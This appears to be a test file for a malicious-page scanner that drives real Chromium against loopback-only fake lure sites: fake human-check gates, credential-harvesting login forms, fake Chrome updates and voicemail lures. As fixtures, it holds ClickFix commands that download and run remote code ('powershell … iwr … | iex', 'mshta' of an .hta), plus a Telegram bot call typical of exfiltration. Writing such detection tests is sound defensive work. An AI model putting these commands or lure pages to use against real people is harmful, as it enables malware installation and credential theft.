import assert from 'node:assert/strict';
import type { Server } from 'node:http';
import { startCanary, type Canary } from '@lookout/testing';
import { defaultPolicy } from '@lookout/egress';
import { createLogger } from '@lookout/telemetry';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { analysisInputOf, type RenderedInput } from '../../src/analysis/analyze.js';
import type { AnalysisInput } from '../../src/analysis/input.js';
import type { ScanResult } from '../../src/analysis/result.js';
import type { BrowserPool } from '../../src/capture/browser-pool.js';
import { scanWithBrowser, type BrowserEngineDeps } from '../../src/capture/browser-engine.js';
import { proxiedEgress } from '../../src/capture/egress.js';
import { scanResultSchema } from '../analysis/fixtures.js';
import { startAnalysingBrowser } from './analysing-browser.js';
import { html, startRouteServer, type Route, type RouteServer } from './route-server.js';

/**
 * The interaction step (a gate clicked, a ClickFix command copied after a slow fetch) and the
 * linked-page step (a lure's call to action followed to another site), with the real Chromium behind
 * the per-scan egress proxy. Fake hosts (`*.test`) resolve to the loopback route server through the
 * proxy's resolver; nothing leaves loopback.
 */

const BUDGET_MS = 20_000;

const slow =
  (ms: number, route: Route): Route =>
  (req, res) =>
    void setTimeout(() => route(req, res), ms);

const typed =
  (type: string, body: string): Route =>
  (_req, res) => {
    res.writeHead(200, { 'content-type': type });
    res.end(body);
  };

const LOGIN_FORM = '<h1>Sign in to Contoso Mail</h1><form method="post" action="/next"><label>Email <input name="email" type="email"></label><label>Password <input name="pass" type="password"></label><button type="submit">Sign in</button></form>';

describe('browser engine: interaction and linked page (real Chromium)', function () {
  this.timeout(120_000);
  let server: Server;
  let base: string;
  let port: number;
  let routes: RouteServer['routes'];
  let pool: BrowserPool;
  let deps: BrowserEngineDeps;
  let canary: Canary;
  const validate = new Ajv2020({ strict: true, strictRequired: false, allowUnionTypes: true, allErrors: true }).compile(scanResultSchema);

  before(async () => {
    ({ server, base, routes } = await startRouteServer());
    port = Number(new URL(base).port);
    canary = await startCanary();
    ({ pool, deps } = await startAnalysingBrowser(createLogger('interaction-test', 'silent')));
    // Loopback only (127.0.0.1 — the canary on 127.0.0.2 is refused); fake `.test` names resolve to the route server.
    deps = {
      ...deps,
      egress: proxiedEgress(defaultPolicy({ allowCidrs: ['127.0.0.1/32'] }), { resolve: async (host) => (host.endsWith('.test') ? ['127.0.0.1'] : []) }),
    };
  });

  after(async () => {
    await pool?.close();
    await canary?.close();
    server?.closeAllConnections();
    await new Promise<void>((resolve) => server?.close(() => resolve()));
  });

  const at = (host: string, path: string) => `http://${host}:${port}${path}`;

  /** Scans a URL; returns the analysis input the engine built and the (schema-valid) result. */
  async function scan(url: string, budgetMs = BUDGET_MS): Promise<{ input: AnalysisInput; result: ScanResult; ms: number }> {
    let rendered: RenderedInput | undefined;
    let response: Parameters<BrowserEngineDeps['analyze']>[0] | undefined;
    const started = Date.now();
    const verdict = await scanWithBrowser(url, {}, {
      ...deps,
      analyze: (r, seen) => {
        response = r;
        rendered = seen;
        return deps.analyze(r, seen);
      },
    }, undefined, budgetMs);
    const ms = Date.now() - started;
    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
    assert.ok(validate(verdict.result), JSON.stringify(validate.errors));
    assert.ok(rendered && response);
    return { input: analysisInputOf(response, rendered), result: verdict.result as ScanResult, ms };
  }

  it('a fake human check whose click fetches the kit and writes a login form: the analysis gets the page after the click', async () => {
    routes.set('/gate/kit.html', slow(600, typed('text/html; charset=utf-8', LOGIN_FORM)));
    routes.set('/gate', html(`<!doctype html><title>Just a moment...</title><body>
      <p>Checking if the site connection is secure</p>
      <div id="cb" style="width:300px;height:60px;border:1px solid #ccc"><span class="box"></span> Verify you are human</div>
      <script>
        document.getElementById('cb').addEventListener('click', async () => {
          document.getElementById('cb').textContent = 'Verifying...';
          const markup = await (await fetch('/gate/kit.html')).text();
          setTimeout(() => { document.body.innerHTML = markup; }, 300);
        });
      </script>`));
    const { input, result } = await scan(at('gate.test', '/gate'));
    assert.equal(result.page?.forms.length, 0, 'the captured page itself holds no form');
    const after = input.afterInteraction;
    assert.ok(after, JSON.stringify(result.capture?.interaction));
    assert.equal(after.url, at('gate.test', '/gate'));
    assert.match(after.html, /type="password"/);
    // The page's wording is a ClickFix reason too, so the probe clicks the element with the handler;
    // the gate step does not click the same element again.
    assert.equal(after.action, 'click-handler:Verify you are human');
    assert.deepEqual(result.capture?.interaction, { actions: ['click-handler:Verify you are human'], changed: true });
    const kit = result.capture!.requests.find((r) => r.url.endsWith('/gate/kit.html'));
    assert.equal(kit?.phase, 'interaction');
    assert.equal(input.fetchedTexts?.find((t) => t.url.endsWith('/gate/kit.html'))?.phase, 'interaction');
    assert.equal(result.capture!.requests.find((r) => r.url.endsWith('/gate'))?.phase, undefined, "the page's own requests carry no phase");
  });

  it('a human check that ignores untrusted clicks and clicks in the first 800 ms after load (its label beside the box): the page after a visitor-like click is analysed', async () => {
    routes.set('/robot/p', typed('text/plain; charset=utf-8', LOGIN_FORM));
    routes.set('/robot', html(`<!doctype html><title>One more step</title><body>
      <p>Please confirm you are not a robot to access the shared file.</p>
      <div class="cap" style="display:flex;gap:14px;width:300px;padding:18px;border:1px solid #ccc"><div id="bx" style="width:26px;height:26px;border:2px solid #c1c1c1;cursor:pointer"></div><div>I'm not a robot</div></div>
      <script>
        var t0 = Date.now();
        document.getElementById('bx').addEventListener('click', function (e) {
          if (!e.isTrusted || Date.now() - t0 < 800) return;
          setTimeout(function () {
            var x = new XMLHttpRequest();
            x.open('GET', '/robot/p');
            x.onload = function () { document.open(); document.write(x.responseText); document.close(); };
            x.send();
          }, 300);
        });
      </script>`));
    const { input, result } = await scan(at('robot.test', '/robot'));
    assert.match(input.afterInteraction?.html ?? '', /type="password"/, JSON.stringify([result.capture?.interaction, result.capture?.console, result.capture?.requests.map((r) => [r.url, r.phase, r.status, r.blocked])]));
  });

  it('a ClickFix button that fetches its command from the server (a slow fetch): the clipboard write is recorded', async () => {
    routes.set('/cf/cmd', slow(900, typed('application/json', JSON.stringify({ c: 'powershell -w hidden -ep bypass -c "iwr https://x.example/s.ps1 | iex"' }))));
    routes.set('/cf', html(`<!doctype html><title>Verification</title><body>
      <h2>Verify you are human</h2><p>Complete the steps below.</p>
      <button id="go">I'm not a robot</button>
      <script>
        document.getElementById('go').addEventListener('click', () => {
          fetch('/cf/cmd').then((r) => r.json()).then((j) => navigator.clipboard.writeText(j.c));
        });
      </script>`));
    // On 127.0.0.1, a secure context: navigator.clipboard does not exist on a plain-http name.
    const { input, result } = await scan(`${base}/cf`);
    assert.deepEqual(input.clipboardWrites, ['powershell -w hidden -ep bypass -c "iwr https://x.example/s.ps1 | iex"'], JSON.stringify({ interaction: result.capture?.interaction, requests: result.capture?.requests.map((r) => [r.url, r.phase, r.status]) }));
    // The command arrives from the server (a fetched text, read with the page's sources) and lands on the clipboard.
    assert.ok(result.signals.some((s) => s.id === 'clipboard-shell-command' || s.id === 'clipboard-shell-copied'), JSON.stringify(result.signals.map((s) => s.id)));
    assert.equal(result.verdict, 'malicious', JSON.stringify(result.signals.map((s) => s.id)));
    assert.match(input.fetchedTexts?.find((t) => t.url.endsWith('/cf/cmd'))?.text ?? '', /powershell/);
  });

  it('"View document" navigating within the site: the new document is the page after the click', async () => {
    routes.set('/doc/view', html(`<!doctype html><title>Document</title>${LOGIN_FORM}`));
    routes.set('/doc', html(`<!doctype html><title>Shared file</title><body><p>A document was shared with you.</p>
      <button onclick="location.href='/doc/view'">View document</button>`));
    const { input, result } = await scan(at('share.test', '/doc'));
    assert.equal(result.finalUrl, at('share.test', '/doc'), 'the scan is of the page as it loaded');
    assert.deepEqual(result.redirects, [], 'a click is not a redirect of the page');
    assert.equal(input.afterInteraction?.url, at('share.test', '/doc/view'));
    assert.match(input.afterInteraction?.html ?? '', /type="password"/);
    assert.equal(result.capture?.interaction?.url, at('share.test', '/doc/view'));
    assert.equal(input.linkedPage, undefined);
  });

  it("a lure's one call-to-action link to a sign-in page on another host: that page is loaded and handed over", async () => {
    routes.set('/owa/signin', html(`<!doctype html><title>Sign in</title><script src="/owa/app.js"></script>${LOGIN_FORM}`));
    routes.set('/owa/app.js', typed('application/javascript', 'fetch("https://api.telegram.org/bot1/sendMessage")'));
    routes.set('/voicemail', html(`<!doctype html><title>New voice message</title><body style="font-family:sans-serif">
      <h2>You have a new voice message (0:42)</h2><p>From: +1 555 0100. Received today.</p>
      <a href="${at('login-portal.test', '/owa/signin')}?u=victim" style="display:inline-block;padding:12px 24px;background:#0b5ed7;color:#fff">Listen to voice message</a>
      <p><a href="${at('help.test', '/privacy')}">Privacy</a></p>`));
    const { input, result } = await scan(at('lure.test', '/voicemail'));
    const linked = input.linkedPage;
    assert.ok(linked, JSON.stringify(result.capture?.linkedPage));
    assert.equal(linked.url, `${at('login-portal.test', '/owa/signin')}?u=victim`);
    assert.equal(linked.via, 'link:Listen to voice message');
    assert.match(linked.html, /type="password"/);
    assert.deepEqual(result.capture?.linkedPage, { url: `${at('login-portal.test', '/owa/signin')}?u=victim`, finalUrl: `${at('login-portal.test', '/owa/signin')}?u=victim`, via: 'link:Listen to voice message', status: 200 });
    // Part of what the scan fetched: in the request list, marked.
    const own = result.capture!.requests.filter((r) => r.url.includes('login-portal.test'));
    assert.ok(own.length >= 2 && own.every((r) => r.phase === 'linked'), JSON.stringify(own));
    assert.equal(input.fetchedTexts?.find((t) => t.url.endsWith('/owa/app.js'))?.phase, 'linked');
    assert.ok(!(input.requests ?? []).some((r) => r.url.includes('login-portal.test')), "the page's request rules judge the page's own requests");
    // The scan is still of the lure.
    assert.equal(result.finalUrl, at('lure.test', '/voicemail'));
    assert.equal(result.page?.title, 'New voice message');
  });

  it('a "Play" button whose click handler navigates to another site: followed as the call to action', async () => {
    routes.set('/audio/login', html(`<!doctype html><title>Verify account</title>${LOGIN_FORM}`));
    routes.set('/audio', html(`<!doctype html><title>Voicemail</title><body><p>Voice message received.</p>
      <button id="p" style="padding:12px 30px">Play voice message</button>
      <script>document.getElementById('p').addEventListener('click', () => { location.href = ${JSON.stringify(at('audio-kit.test', '/audio/login'))}; });</script>`));
    const { input, result } = await scan(at('vm.test', '/audio'));
    assert.equal(input.linkedPage?.url, at('audio-kit.test', '/audio/login'));
    assert.equal(input.linkedPage?.via, 'click:Play voice message');
    assert.match(input.linkedPage?.html ?? '', /type="password"/);
    assert.equal(result.capture?.linkedPage?.status, 200);
    assert.equal(input.afterInteraction, undefined);
  });

  it('a call to action that is a file on another site: no page, the download is in the capture', async () => {
    const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60, 0)]);
    routes.set('/files/Invoice_2291.zip', (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/zip', 'content-disposition': 'attachment; filename="Invoice_2291.zip"' });
      res.end(zip);
    });
    routes.set('/invoice-lure', html(`<!doctype html><title>Invoice</title><p>Your invoice is attached.</p>
      <a href="${at('files-cdn.test', '/files/Invoice_2291.zip')}" style="display:inline-block;padding:10px 20px;background:#070;color:#fff">Download invoice</a>`));
    const { input, result } = await scan(at('billing-mail.test', '/invoice-lure'));
    assert.deepEqual(result.capture?.linkedPage, { url: at('files-cdn.test', '/files/Invoice_2291.zip'), finalUrl: at('files-cdn.test', '/files/Invoice_2291.zip'), via: 'link:Download invoice', status: null });
    assert.equal(input.linkedPage, undefined);
    const download = result.capture?.downloads.find((d) => d.url.endsWith('/Invoice_2291.zip'));
    assert.equal(download?.magic, 'zip', JSON.stringify(result.capture?.downloads));
  });

  it('a frame from another site that fills the viewport is what the visitor sees: its document is read as the page; a small frame is not', async () => {
    const kit = '<!doctype html><title>Sign In | Navy Federal Credit Union</title><h1>Navy Federal Credit Union</h1><form method="post" action="/signin"><label>Username <input name="user"></label><label>Password <input type="password" name="pass"></label><button>Sign in</button></form>';
    routes.set('/nfcu/signin', html(kit));
    routes.set('/wp-content/uploads/nfcu/', html(`<!doctype html><title>Navy Federal Credit Union - Sign In</title><style>html,body,iframe{margin:0;border:0;width:100%;height:100%;overflow:hidden}</style>
      <body><iframe src="${at('member-review.test', '/nfcu/signin')}"></iframe>`));
    const covered = await scan(at('dentalcare-clinic.test', '/wp-content/uploads/nfcu/'));
    assert.deepEqual(covered.input.coveringFrames, [at('member-review.test', '/nfcu/signin')]);
    assert.ok(covered.result.signals.some((s) => s.id === 'credential-password'), JSON.stringify(covered.result.signals.map((s) => s.id)));
    assert.equal(covered.result.verdict, 'malicious', JSON.stringify(covered.result.decidedBy));

    routes.set('/widget/login', html(kit.replace('Navy Federal Credit Union', 'Chat')));
    routes.set('/blog/post', html(`<!doctype html><title>Spring planting notes</title><body><article><h1>Spring planting notes</h1><p>${'Dahlias go in after the last frost. '.repeat(40)}</p></article>
      <iframe src="${at('chat-widget.test', '/widget/login')}" style="position:fixed;right:10px;bottom:10px;width:300px;height:200px;border:0"></iframe>`));
    const widget = await scan(at('garden-notes.test', '/blog/post'));
    assert.equal(widget.input.coveringFrames, undefined);
    assert.ok(!widget.result.signals.some((s) => s.id === 'credential-password'), JSON.stringify(widget.result.signals.map((s) => s.id)));
  });

  it('a frame a script wrote over a hacked page (document.write into an about:blank iframe) is read as what the visitor sees', async () => {
    const overlay = '<h1>An error occurred in Chrome</h1><p>Your version of Chrome is out of date and can no longer display this page. To continue, install the latest update.</p><a href="/dl/Chrome.Update.zip">Update Chrome</a>';
    routes.set('/regatta/', html(`<!doctype html><title>Spring regatta</title><body><article><h1>Spring regatta</h1><p>${'Entries are open for masters and junior crews. '.repeat(30)}</p></article>
      <script>var f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;background:#fff';document.body.appendChild(f);var d=f.contentDocument;d.open();d.write(${JSON.stringify(overlay)});d.close();</script>`));
    const { input, result } = await scan(at('rowing-club.test', '/regatta/'));
    assert.deepEqual(input.coveringFrames, ['about:blank']);
    const written = input.fetchedTexts?.find((t) => t.url === 'about:blank');
    assert.match(written?.text ?? '', /An error occurred in Chrome/, JSON.stringify(input.fetchedTexts?.map((t) => t.url)));
    assert.ok(result.signals.some((s) => s.id === 'malware-lure-text'), JSON.stringify(result.signals.map((s) => s.id)));
  });

  it('a fake human check in a frame that covers a hacked page: the check is clicked in the frame, its clipboard write recorded, the frame after the click analysed', async () => {
    const command = 'mshta https://verify-cdn.test/v.hta # Cloudflare Verification ID: 4417';
    routes.set('/check', html(`<!doctype html><title>Verification</title><body style="margin:0;font-family:sans-serif">
      <div style="margin:120px auto;width:320px;border:1px solid #ccc;padding:18px">
        <p>Verify you are human by completing the action below.</p>
        <div id="cb" style="display:flex;gap:10px;align-items:center;cursor:pointer"><span style="width:24px;height:24px;border:2px solid #999"></span> I'm not a robot</div>
        <div id="steps" hidden><h3>Verification steps</h3><ol><li>Press Windows Button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>
      </div>
      <script>
        document.getElementById('cb').addEventListener('click', function () {
          var t = document.createElement('textarea'); t.value = ${JSON.stringify(command)}; document.body.appendChild(t); t.select();
          document.execCommand('copy'); t.remove();
          document.getElementById('steps').hidden = false;
          document.getElementById('cb').insertAdjacentHTML('afterend', '<p>Complete these verification steps to continue reading the article you opened on the recipe site and every other page of it.</p>');
        });
      </script>`));
    routes.set('/2025/10/apple-crumble', html(`<!doctype html><title>Grandma's apple crumble</title><style>iframe{position:fixed;inset:0;width:100%;height:100%;border:0;background:#fff}</style>
      <body><article><h1>Grandma's apple crumble</h1><p>${'Peel the apples and cut them into chunks. '.repeat(30)}</p></article>
      <iframe src="${at('verify-cdn.test', '/check')}"></iframe>`));
    const { input, result } = await scan(at('recipes-blog.test', '/2025/10/apple-crumble'));
    assert.deepEqual(input.clipboardWrites, [command], JSON.stringify(result.capture?.interaction));
    assert.match(result.capture?.interaction?.actions.join(' ') ?? '', /not a robot/);
    assert.equal(input.afterInteraction?.url, at('verify-cdn.test', '/check'));
    assert.match(input.afterInteraction?.html ?? '', /Verification steps/);
    assert.equal(result.verdict, 'malicious', JSON.stringify(result.decidedBy));
    assert.ok(result.categories.includes('clickfix'), JSON.stringify(result.categories));
  });

  it('a fake browser update in a frame over a blog: its "Update Chrome" button is pressed and the file it hands to the page is in the capture', async () => {
    const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60, 0)]);
    routes.set('/v3/Chrome.Update.zip', (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/zip' });
      res.end(zip);
    });
    routes.set('/v3/overlay', html(`<!doctype html><title>Update Chrome</title><body style="margin:0">
      <div style="margin:100px auto;width:420px;text-align:center"><h2>Your version of Chrome is out of date</h2><p>This page cannot be displayed until you update your browser.</p>
      <button id="u" style="padding:12px 40px">Update Chrome</button></div>
      <script>document.getElementById('u').onclick = function () { parent.postMessage({ t: 'dl', u: location.origin + '/v3/Chrome.Update.zip' }, '*'); };</script>`));
    routes.set('/2024/10/dahlias', html(`<!doctype html><title>Overwintering dahlias</title><body><article><h1>Overwintering dahlias</h1><p>${'Lift the tubers after the first frost. '.repeat(30)}</p></article>
      <script>var f = document.createElement('iframe'); f.src = ${JSON.stringify(at('cdn-update.test', '/v3/overlay'))}; f.style = 'position:fixed;inset:0;width:100%;height:100%;border:0;background:#fff'; document.body.appendChild(f);
      addEventListener('message', function (e) { if (e.data && e.data.t === 'dl') { var a = document.createElement('a'); a.href = e.data.u; a.download = ''; document.body.appendChild(a); a.click(); } });</script>`));
    const { result } = await scan(at('garden-blog.test', '/2024/10/dahlias'));
    assert.deepEqual(result.capture?.interaction?.actions, ['click:Update Chrome'], JSON.stringify(result.capture?.interaction));
    const download = result.capture?.downloads.find((d) => d.url.endsWith('/v3/Chrome.Update.zip'));
    assert.equal(download?.magic, 'zip', JSON.stringify(result.capture?.downloads));
  });

  it('leaves ordinary pages alone: a login form, a long article, a page with a plain button, an identifier-first login — no click, nothing followed', async () => {
    let clicked = 0;
    routes.set('/clicked', (_req, res) => {
      clicked += 1;
      res.writeHead(204);
      res.end();
    });
    routes.set('/login', html(`<!doctype html><title>Sign in</title>${LOGIN_FORM}<p><a href="${at('idp.test', '/sso')}" class="btn">Sign in with SSO</a></p>
      <button onclick="fetch('/clicked')">Continue</button>`));
    routes.set('/article', html(`<!doctype html><title>News</title><article>${'<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(120)}</p></article>
      <a class="button" href="${at('shop.test', '/buy')}">Read more</a><button onclick="fetch('/clicked')">Continue reading</button>`));
    routes.set('/plain', html(`<!doctype html><title>Tools</title><p>Tools for you.</p><button id="t">Toggle details</button>
      <script>document.getElementById('t').addEventListener('click', () => fetch('/clicked'));</script>
      ${Array.from({ length: 8 }, (_, i) => `<a href="${at(`site${i}.test`, '/')}">Partner ${i}</a>`).join(' ')}`));
    // Identifier-first: one email field and "Next" — submitting it empty is not passing a gate.
    routes.set('/id-first', html(`<!doctype html><title>Sign in</title><h1>Sign in</h1><form method="post" action="/clicked"><input type="email" name="login" placeholder="Email"><button>Next</button></form>`));
    for (const path of ['/login', '/article', '/plain', '/id-first']) {
      const { input, result } = await scan(at('ordinary.test', path));
      assert.equal(result.capture?.interaction, undefined, `${path}: ${JSON.stringify(result.capture?.interaction)}`);
      assert.equal(result.capture?.linkedPage, undefined, `${path}: ${JSON.stringify(result.capture?.linkedPage)}`);
      assert.equal(input.afterInteraction, undefined);
      assert.ok(result.capture!.requests.every((r) => r.phase === undefined));
    }
    assert.equal(clicked, 0);
  });

  it('a call to action towards a blocked address: the refusal is recorded, the scan completes, nothing reaches the target', async () => {
    routes.set('/blocked-lure', html(`<!doctype html><title>Invoice</title><body><p>Your invoice INV-2291 is ready.</p>
      <a href="http://127.0.0.2:${canary.port}/invoice/signin" style="display:inline-block;padding:10px 20px;background:#222;color:#fff">View invoice</a>`));
    const { input, result } = await scan(at('billing.test', '/blocked-lure'));
    assert.equal(canary.connections(), 0, 'the canary was reached');
    assert.equal(input.linkedPage, undefined);
    assert.deepEqual(result.capture?.linkedPage, { url: `http://127.0.0.2:${canary.port}/invoice/signin`, finalUrl: `http://127.0.0.2:${canary.port}/invoice/signin`, via: 'link:View invoice', status: null, blocked: { reason: 'blocked_egress' } });
    const refused = result.capture!.requests.find((r) => r.url.startsWith(`http://127.0.0.2:${canary.port}/`));
    assert.equal(refused?.phase, 'linked');
    assert.deepEqual(refused?.blocked, { reason: 'blocked_egress' });
    assert.equal(result.finalUrl, at('billing.test', '/blocked-lure'));
  });

  it('hostile: a gate whose click handler loops forever ends within its deadline, the loop stopped, the capture kept', async () => {
    routes.set('/loop', html(`<!doctype html><title>Just a moment...</title><body><p>Checking your browser</p>
      <button id="v">Verify you are human</button>
      <script>document.getElementById('v').addEventListener('click', () => { for (;;) {} });</script>`));
    const budget = 12_000;
    const { result, ms } = await scan(at('loop.test', '/loop'), budget);
    assert.ok(ms < budget, `the scan took ${ms} ms`);
    assert.ok(result.capture?.incidents.includes('interaction-script-terminated'), JSON.stringify(result.capture?.incidents));
    assert.equal(result.page?.title, 'Just a moment...');
    assert.ok(result.capture?.screenshot, 'the screenshot taken before the click is kept');
  });

  it('hostile: a call-to-action target that never answers ends within the deadline', async () => {
    routes.set('/never', () => {
      // Never answers.
    });
    routes.set('/hang-lure', html(`<!doctype html><title>Package held</title><p>Your package is held at the depot.</p>
      <a href="${at('track-parcel.test', '/never')}" style="display:inline-block;padding:10px 20px;background:#c00;color:#fff">Track your package</a>`));
    const budget = 12_000;
    const { result, ms } = await scan(at('parcel.test', '/hang-lure'), budget);
    assert.ok(ms < budget, `the scan took ${ms} ms`);
    assert.equal(result.capture?.linkedPage?.via, 'link:Track your package');
    assert.equal(result.capture?.linkedPage?.status, null);
  });
});
